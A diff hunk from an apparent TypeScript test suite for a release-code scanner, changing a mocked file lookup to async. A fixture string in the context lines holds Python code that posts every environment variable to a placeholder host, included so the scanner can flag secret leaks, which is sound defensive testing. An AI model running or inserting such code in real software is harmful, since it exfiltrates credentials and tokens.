@@ -62,7 +62,7 @@ describe('scanReleaseCode: new in this release', () => {
       yankedReason: null,
       isPrerelease: false,
     })),
-    filesOf: (version: string) => files[version] ?? [],
+    filesOf: async (version: string) => files[version] ?? [],
   });
   const leak = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;
 
